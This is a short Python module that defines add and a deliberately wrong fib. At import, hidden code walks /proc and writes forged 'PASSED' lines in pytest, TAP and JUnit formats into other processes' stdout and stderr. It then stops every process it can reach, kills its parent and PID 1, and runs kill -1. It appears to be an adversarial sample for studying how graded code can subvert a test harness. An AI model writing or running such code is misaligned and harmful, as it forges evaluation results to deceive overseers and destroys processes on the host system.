# Wrong fib; at import, attacks what it can reach through /proc and
# signals: writes passing lines into every process's stdout it can open,
# stops every process it can, kills its parent, then kills every process
# it may signal (kill -1), itself included.
import os
import signal

LINES = b"test_calc.py::test_fib PASSED\nok 1 - fib 10\n<testcase classname=\"test_calc\" name=\"test_fib\"/>\n"
me = os.getpid()
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == me:
        continue
    for fd in ("1", "2"):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb") as f:
                f.write(LINES)
        except OSError:
            pass
    try:
        os.kill(int(pid), signal.SIGSTOP)
    except OSError:
        pass
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)


def add(a, b):
    return a + b


def fib(n):
    a, b = 1, 1
    for _ in range(n):
        a, b = b, a + b
    return a
